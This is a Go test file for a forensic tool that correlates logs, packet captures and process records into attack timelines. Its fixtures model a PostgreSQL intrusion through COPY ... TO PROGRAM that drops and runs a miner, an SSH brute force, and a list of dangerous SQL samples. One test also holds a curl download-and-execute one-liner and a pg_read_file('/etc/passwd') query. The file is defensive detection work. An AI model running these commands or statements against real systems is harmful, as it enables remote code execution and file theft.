package correlate

import (
	"strings"
	"testing"
	"time"

	"github.com/cordon-forensics/cordon/analyzer/findings"
	"github.com/cordon-forensics/cordon/timeline"
)

var t0 = time.Date(2026, 11, 2, 10, 24, 0, 0, time.UTC)

const bundleID = "ev-1"

// at builds an event at t0+d read from entry:line.
func at(d time.Duration, dataset, action, entry string, line int64, msg string) timeline.Event {
	return timeline.Event{Timestamp: t0.Add(d), Message: msg,
		Event:  timeline.EventFields{Kind: "event", Dataset: dataset, Action: action},
		Labels: map[string]string{},
		Cordon: timeline.Cordon{Provenance: timeline.Provenance{Bundle: bundleID, Entry: entry, Line: line, SHA256: strings.Repeat("a", 64)}}}
}

func process(d time.Duration, line, pid, ppid int64, name, exe, parent string, suspect string) timeline.Event {
	ev := at(d, "processes", "process-started", "proc/processes.jsonl", line, name)
	ev.Process = &timeline.Process{PID: pid, Name: name, Executable: exe, Start: t0.Add(d),
		Parent: &timeline.ParentProcess{PID: ppid, Name: parent}}
	if suspect != "" {
		ev.Labels["suspect"] = suspect
	}
	return ev
}

func socket(d time.Duration, line, pid int64, lip string, lport int, rip string, rport int) timeline.Event {
	ev := at(d, "sockets", "socket-connected", "net/sockets.jsonl", line, "socket")
	ev.Event.Kind = "state"
	ev.Network = &timeline.Network{Transport: "tcp"}
	ev.Source = &timeline.Endpoint{IP: lip, Port: lport}
	ev.Destination = &timeline.Endpoint{IP: rip, Port: rport}
	if pid != 0 {
		ev.Process = &timeline.Process{PID: pid}
	}
	return ev
}

func pcapFlow(d, dur time.Duration, off int64, sip string, sport int, dip string, dport int) timeline.Event {
	ev := at(d, "pcap", "flow", "capture/eth0-0001.pcapng", 0, "flow")
	ev.Cordon.Provenance.Offset = off
	ev.Source = &timeline.Endpoint{IP: sip, Port: sport}
	ev.Destination = &timeline.Endpoint{IP: dip, Port: dport}
	ev.Network = &timeline.Network{Transport: "tcp"}
	ev.Labels["flow.last_packet"] = t0.Add(d + dur).Format(time.RFC3339Nano)
	return ev
}

func pg(d time.Duration, line int64, action string, pid int64, ip string, port int, user, msg string) timeline.Event {
	ev := at(d, "postgresql", action, "fs/var/log/postgresql/postgresql-15-main.log", line, msg)
	ev.Process = &timeline.Process{PID: pid}
	if ip != "" {
		ev.Source = &timeline.Endpoint{IP: ip, Port: port}
	}
	if user != "" {
		ev.User = &timeline.User{Name: user}
	}
	return ev
}

// incident is the scenario's attack as events: a probe, a drop and a
// start through COPY … TO PROGRAM, a watchdog respawning its miner after
// the first one was killed, the miner's stratum connection, the listener
// on all interfaces, and an unrelated suspect process on the same host.
func incident() []timeline.Event {
	const attacker = "203.0.113.9"
	listen := at(90*time.Second, "sockets", "socket-listening", "net/sockets.jsonl", 1, "tcp 0.0.0.0:5432 (all interfaces) LISTEN")
	listen.Event.Kind = "state"
	listen.Source = &timeline.Endpoint{IP: "0.0.0.0", Port: 5432}
	listen.Network = &timeline.Network{Transport: "tcp"}
	listen.Labels["all_interfaces"] = "true"
	stratum := pcapFlow(31*time.Second, 0, 900, "10.0.0.5", 41002, "198.51.100.20", 3333)
	stratum.Event.Action = "stratum-login"
	stratum.Labels["stratum.login"] = "4WALLET"
	return []timeline.Event{
		process(-time.Hour, 1, 100, 1, "postgres", "/usr/lib/postgresql/15/bin/postgres", "systemd", ""),
		pg(-2*time.Second, 1, "connection-received", 200, attacker, 50001, "", "connection received: host=203.0.113.9 port=50001"),
		pcapFlow(time.Second, 100*time.Millisecond, 100, attacker, 50002, "10.0.0.5", 5432),
		pg(time.Second, 2, "connection-received", 201, attacker, 50002, "", "connection received: host=203.0.113.9 port=50002"),
		pg(time.Second+time.Millisecond, 3, "connection-authorized", 201, "", 0, "postgres", "connection authorized: user=postgres database=postgres"),
		pg(time.Second+2*time.Millisecond, 4, "statement", 201, "", 0, "postgres", "statement: COPY t TO PROGRAM 'base64 -d > /tmp/mysql && chmod 755 /tmp/mysql'"),
		pcapFlow(2*time.Second, time.Second, 200, attacker, 50003, "10.0.0.5", 5432),
		pg(2*time.Second, 5, "connection-received", 202, attacker, 50003, "", "connection received: host=203.0.113.9 port=50003"),
		pg(2*time.Second+time.Millisecond, 6, "statement", 202, "", 0, "postgres", "statement: COPY (SELECT 1) TO PROGRAM 'exec /tmp/mysql'"),
		pg(2*time.Second+2*time.Millisecond, 7, "statement", 202, "", 0, "postgres", "statement: SELECT 1"),
		process(2*time.Second, 2, 202, 100, "postgres", "/usr/lib/postgresql/15/bin/postgres", "postgres", ""),
		process(2*time.Second+10*time.Millisecond, 3, 300, 202, "init", "/tmp/mysql (deleted)", "postgres", "exe deleted"),
		// the first miner's connection, killed at 30 s; its respawn at 30.5 s
		pcapFlow(3*time.Second, 27*time.Second, 300, "10.0.0.5", 41001, "198.51.100.20", 3333),
		process(30*time.Second+500*time.Millisecond, 4, 301, 300, "mysql", "/tmp/mysql (deleted)", "init", "exe deleted"),
		pcapFlow(31*time.Second, 10*time.Second, 400, "10.0.0.5", 41002, "198.51.100.20", 3333),
		stratum,
		socket(90*time.Second, 2, 301, "10.0.0.5", 41002, "198.51.100.20", 3333),
		socket(90*time.Second, 3, 0, "10.0.0.5", 41001, "198.51.100.20", 3333), // TIME_WAIT: no holder
		socket(90*time.Second, 4, 202, "10.0.0.5", 5432, attacker, 50003),
		listen,
		// unrelated: a memfd program under init, earlier than everything
		process(-2*time.Hour, 5, 50, 1, "agent", "/memfd:x (deleted)", "systemd", "exe memfd"),
		process(-2*time.Hour, 6, 1, 0, "systemd", "/usr/lib/systemd/systemd", "", ""),
	}
}

func build(t *testing.T, evs []timeline.Event, fs []findings.Finding) Result {
	t.Helper()
	c := New()
	for _, ev := range evs {
		c.Add(ev)
	}
	return c.Build(fs, Options{})
}

func findStep(t *testing.T, steps []Step, parts ...string) *Step {
	t.Helper()
	for i := range steps {
		ok := true
		for _, p := range parts {
			if !strings.Contains(steps[i].Text, p) {
				ok = false
			}
		}
		if ok {
			return &steps[i]
		}
	}
	t.Errorf("no step holding %q", parts)
	return nil
}

func TestIncidentChain(t *testing.T) {
	exp := findings.Finding{RuleID: "CORDON-EXP-001", Severity: "high", Title: "listening on all interfaces",
		Evidence: []findings.Evidence{{Time: t0.Add(90 * time.Second).Format(time.RFC3339Nano), Message: "tcp 0.0.0.0:5432 (all interfaces) LISTEN",
			Provenance: timeline.Provenance{Bundle: bundleID, Entry: "net/sockets.jsonl", Line: 1}}}}
	res := build(t, incident(), []findings.Finding{exp})
	if len(res.Threads) != 2 {
		t.Fatalf("%d threads, want the attack and the unrelated memfd program", len(res.Threads))
	}
	th := res.Threads[0]
	if !strings.Contains(th.Title, "PostgreSQL backend 202") || !strings.Contains(th.Title, "203.0.113.9") {
		t.Errorf("main thread %q", th.Title)
	}
	if len(th.Attackers) != 2 || th.Attackers[0] != "198.51.100.20" || th.Attackers[1] != "203.0.113.9" {
		t.Errorf("attackers %v: want the client and the pool", th.Attackers)
	}
	first := findStep(t, th.Steps, "first event naming 203.0.113.9 in the case: connection received: host=203.0.113.9 port=50001")
	if first != nil && (!first.First || !first.Time.Equal(t0.Add(-2*time.Second))) {
		t.Errorf("first contact: %+v", first)
	}
	for i, s := range th.Steps {
		if s.First && (first == nil || s.Text != first.Text) {
			t.Errorf("step %d marked first: %q", i, s.Text)
		}
		if len(s.Evidence) == 0 {
			t.Errorf("step %q has no evidence", s.Text)
		}
		if i > 0 && s.Time.Before(th.Steps[i-1].Time) {
			t.Errorf("steps out of order at %d", i)
		}
	}
	if !strings.Contains(th.Golden, t0.Add(-2*time.Second).Format(time.RFC3339Nano)) {
		t.Errorf("golden point %q", th.Golden)
	}
	findStep(t, th.Steps, "PostgreSQL accepted a connection from 203.0.113.9:50003 (backend PID 202)")
	if s := findStep(t, th.Steps, "the capture holds this connection: TCP 203.0.113.9:50003 -> 10.0.0.5:5432"); s != nil && s.Evidence[0].Provenance.Offset != 200 {
		t.Errorf("flow evidence %+v", s.Evidence)
	}
	findStep(t, th.Steps, "ran: statement: COPY (SELECT 1) TO PROGRAM 'exec /tmp/mysql'")
	// The drop was in another session of the same client: it joins the chain.
	findStep(t, th.Steps, "backend 201", "base64 -d > /tmp/mysql")
	if s := findStep(t, th.Steps, "was deleted while it ran", "it is the file the attacker's statement wrote"); s != nil && len(s.Evidence) != 2 {
		t.Errorf("drop evidence %+v", s.Evidence)
	}
	findStep(t, th.Steps, "postgres (PID 202) started \"init\" (PID 300")
	if s := findStep(t, th.Steps, "watchdog respawn", "PID 301", "10.0.0.5:41001"); s != nil && (s.Stage != StagePersistence || s.Kind != KindRespawn) {
		t.Errorf("respawn stage %q kind %q", s.Stage, s.Kind)
	}
	findStep(t, th.Steps, "process 301 \"mysql\" holds a tcp connection 10.0.0.5:41002 -> 198.51.100.20:3333", "stratum", "4WALLET")
	if len(th.RootCause) != 2 {
		t.Errorf("root cause %+v: want the exposure finding and the listener", th.RootCause)
	}
	for _, s := range th.Steps {
		if strings.Contains(s.Text, "SELECT 1\"") || strings.HasSuffix(s.Text, "SELECT 1") {
			t.Errorf("a harmless statement is in the chain: %q", s.Text)
		}
	}
	// The tree: init's ancestors, the backend, the stand-in and its miner.
	var tree []string
	for _, l := range th.Tree {
		tree = append(tree, strings.Repeat(" ", l.Depth)+l.Name)
	}
	if got := strings.Join(tree, "|"); got != "systemd| postgres|  postgres|   init|    mysql" {
		t.Errorf("tree %q", got)
	}
	other := res.Threads[1]
	if other.Score >= th.Score || !strings.Contains(other.Title, "agent") || len(other.RootCause) != 0 {
		t.Errorf("unrelated thread %+v", other)
	}
	if len(res.Links) == 0 {
		t.Errorf("no joins recorded")
	}
}

func TestNoSuspectNoThread(t *testing.T) {
	evs := []timeline.Event{
		process(0, 1, 1, 0, "systemd", "/usr/lib/systemd/systemd", "", ""),
		process(time.Second, 2, 10, 1, "sshd", "/usr/sbin/sshd", "systemd", ""),
		pcapFlow(time.Second, time.Second, 0, "198.51.100.1", 4000, "10.0.0.5", 22),
	}
	if res := build(t, evs, nil); len(res.Threads) != 0 {
		t.Errorf("threads without any suspect process: %+v", res.Threads)
	}
}

// A process is suspect through a high finding on its start event even
// when the collector did not flag it; aggregate rules do not count.
func TestSuspectFromFindings(t *testing.T) {
	evs := []timeline.Event{
		process(0, 1, 1, 0, "systemd", "/usr/lib/systemd/systemd", "", ""),
		process(time.Second, 2, 10, 1, "sshd", "/usr/sbin/sshd", "systemd", ""),
		process(2*time.Second, 3, 11, 10, "sh", "/usr/bin/sh", "sshd", ""),
	}
	f := func(id string) findings.Finding {
		return findings.Finding{RuleID: id, Severity: "high", Evidence: []findings.Evidence{{Provenance: evs[2].Cordon.Provenance}}}
	}
	c := New()
	for _, ev := range evs {
		c.Add(ev)
	}
	if res := c.Build([]findings.Finding{f("CORDON-X-001")}, Options{}); len(res.Threads) != 1 || res.Threads[0].Tree[len(res.Threads[0].Tree)-1].Name != "sh" {
		t.Errorf("a finding on the process: %+v", res.Threads)
	}
	c = New()
	for _, ev := range evs {
		c.Add(ev)
	}
	if res := c.Build([]findings.Finding{f("CORDON-AGG-001")}, Options{Aggregate: map[string]bool{"CORDON-AGG-001": true}}); len(res.Threads) != 0 {
		t.Errorf("an aggregate finding made a thread: %+v", res.Threads)
	}
}

func TestProgramPaths(t *testing.T) {
	w, r := programPaths("curl -s http://x/m -o /tmp/.x; chmod +x /tmp/.x && nohup /tmp/.x >/dev/null 2>&1 &")
	if strings.Join(w, ",") != "/tmp/.x,/dev/null" || !strings.Contains(strings.Join(r, ","), "/tmp/.x") {
		t.Errorf("written %v, run %v", w, r)
	}
	ev := at(0, "postgresql", "statement", "x", 1, "")
	for _, sql := range []string{
		"COPY t TO PROGRAM 'id'", "copy (select 1) from program $$id$$", "CREATE FUNCTION f() RETURNS int AS '/tmp/x.so' LANGUAGE C",
		"SELECT lo_export(1, '/tmp/x')", "select pg_read_file('/etc/passwd')", "COPY t TO '/tmp/out.csv'",
	} {
		if ok, _ := dangerousSQL(&ev, sql); !ok {
			t.Errorf("not dangerous: %s", sql)
		}
	}
	for _, sql := range []string{"SELECT version()", "COPY t TO STDOUT", "INSERT INTO t VALUES ('program')"} {
		if ok, _ := dangerousSQL(&ev, sql); ok {
			t.Errorf("dangerous: %s", sql)
		}
	}
	if _, p := dangerousSQL(&ev, "COPY t TO PROGRAM 'echo ''hi'' > /tmp/a'"); p != "echo 'hi' > /tmp/a" {
		t.Errorf("program %q", p)
	}
}

func sshLine(d time.Duration, line int64, pid int64, outcome, user, ip string) timeline.Event {
	ev := at(d, "auth", "ssh-login", "fs/var/log/auth.log", line, "sshd: "+outcome+" for "+user)
	ev.Event.Category = []string{"authentication"}
	ev.Event.Outcome = outcome
	ev.Source = &timeline.Endpoint{IP: ip, Port: 40000 + int(line)}
	ev.User = &timeline.User{Name: user}
	ev.Process = &timeline.Process{PID: pid, Name: "sshd"}
	return ev
}

// TestBruteForceThread: failures from one address then a success make a
// thread of their own, with what the account did next, even when no
// process looks suspect; fewer failures than bruteMin do not.
func TestBruteForceThread(t *testing.T) {
	const ip = "198.51.100.66"
	var evs []timeline.Event
	for i := 0; i < bruteMin; i++ {
		evs = append(evs, sshLine(time.Duration(i)*time.Second, int64(i+1), 700+int64(i), "failure", []string{"root", "admin"}[i%2], ip))
	}
	evs = append(evs, sshLine(time.Minute, 10, 800, "success", "deploy", ip))
	sudo := at(2*time.Minute, "auth", "sudo-command", "fs/var/log/auth.log", 11, "sudo: deploy : COMMAND=/bin/bash")
	sudo.User = &timeline.User{Name: "deploy"}
	sudo.Event.Outcome = "success"
	sudo.Process = &timeline.Process{Name: "sudo", CommandLine: "/bin/bash"}
	sudo.Labels["sudo.target_user"] = "root"
	evs = append(evs, sudo,
		process(-time.Hour, 1, 1, 0, "systemd", "/usr/lib/systemd/systemd", "", ""),
		process(time.Minute, 2, 800, 1, "sshd", "/usr/sbin/sshd", "systemd", ""),
		process(time.Minute+time.Second, 3, 801, 800, "bash", "/usr/bin/bash", "sshd", ""))
	res := build(t, evs, nil)
	if len(res.Threads) != 1 {
		t.Fatalf("%d threads", len(res.Threads))
	}
	th := res.Threads[0]
	if !strings.Contains(th.Title, "SSH brute force from "+ip+": 5 failed logins, then \"deploy\" got in") {
		t.Errorf("title %q", th.Title)
	}
	if !th.Steps[0].First || !strings.Contains(th.Steps[0].Text, "first failed SSH login from "+ip) {
		t.Errorf("first step %+v", th.Steps[0])
	}
	findStep(t, th.Steps, "accounts tried: admin (2), root (3)")
	findStep(t, th.Steps, "SSH login of \"deploy\" from "+ip+" succeeded")
	findStep(t, th.Steps, "\"deploy\" ran as root through sudo: /bin/bash")
	findStep(t, th.Steps, "process 801 \"bash\"", "session of \"deploy\"")

	// One failure fewer: no thread.
	res = build(t, evs[1:], nil)
	if len(res.Threads) != 0 {
		t.Errorf("%d failures made a thread", bruteMin-1)
	}
}

func TestIndicatorsSummarizedPerProcess(t *testing.T) {
	var ins []*indicator
	for i, v := range []string{"stratum+tcp://a:3333", "stratum+tcp://b:3333", "stratum+tcp://c:3333", "stratum+tcp://d:3333", "stratum+tcp://a:3333"} {
		ins = append(ins, &indicator{pid: 7, kind: "mining pool URL", value: v,
			ref: Ref{Provenance: timeline.Provenance{Entry: "memory/7/core", Offset: int64(i)}, Time: t0.Add(time.Duration(5-i) * time.Second).Format(time.RFC3339Nano)}})
	}
	ins = append(ins, &indicator{pid: 7, kind: "Monero wallet", value: "4abc", ref: Ref{Provenance: timeline.Provenance{Entry: "proc/7/exe"}, Time: t0.Add(time.Minute).Format(time.RFC3339Nano)}})
	tm, text, refs := summarizeIndicators(7, ins)
	if !tm.Equal(t0.Add(time.Second)) {
		t.Errorf("time %v, want the earliest", tm)
	}
	want := "process 7 holds mining indicators: mining pool URL stratum+tcp://a:3333, stratum+tcp://b:3333, stratum+tcp://c:3333 and 1 more; Monero wallet 4abc"
	if !strings.HasSuffix(text, want) {
		t.Errorf("text %q\nwant suffix %q", text, want)
	}
	if len(refs) != 4 {
		t.Errorf("%d references, want one per value shown (4)", len(refs))
	}
}

func TestNewEgress(t *testing.T) {
	// Besides the miner, a package manager talks to its mirror, which the
	// logs named an hour before the attack, and to a host nobody named.
	mirror := at(-time.Hour, "syslog", "log", "fs/var/log/syslog", 9, "apt: fetching from 192.0.2.80")
	mirror.Destination = &timeline.Endpoint{IP: "192.0.2.80", Port: 80}
	evs := append(incident(), mirror,
		process(-90*time.Minute, 7, 60, 1, "apt", "/usr/bin/apt", "systemd", ""),
		socket(90*time.Second, 5, 60, "10.0.0.5", 40100, "192.0.2.80", 80),
		socket(90*time.Second, 6, 60, "10.0.0.5", 40101, "192.0.2.99", 443))
	res := build(t, evs, nil)
	got := map[string]Egress{}
	for _, e := range res.NewEgress {
		got[e.Destination] = e
	}
	if len(got) != 2 {
		t.Fatalf("new egress %+v, want the pool and 192.0.2.99", res.NewEgress)
	}
	pool := got["198.51.100.20:3333"]
	if pool.PID != 301 || !pool.Time.Equal(t0.Add(3*time.Second)) || len(pool.Evidence) != 4 ||
		!strings.Contains(pool.Text, `process 301 "mysql" connected out to 198.51.100.20:3333 (in the capture, a socket at collection)`) {
		t.Errorf("pool egress %+v", pool)
	}
	if e := got["192.0.2.99:443"]; e.PID != 60 || !strings.Contains(e.Text, "named by no dated event before the collection") {
		t.Errorf("unnamed egress %+v", e)
	}

	// No event before the incident: no baseline, nothing said.
	var late []timeline.Event
	for _, ev := range evs {
		if ev.Timestamp.After(t0.Add(-10 * time.Second)) {
			late = append(late, ev)
		}
	}
	if res := build(t, late, nil); len(res.NewEgress) != 0 {
		t.Errorf("without a baseline: %+v", res.NewEgress)
	}
}
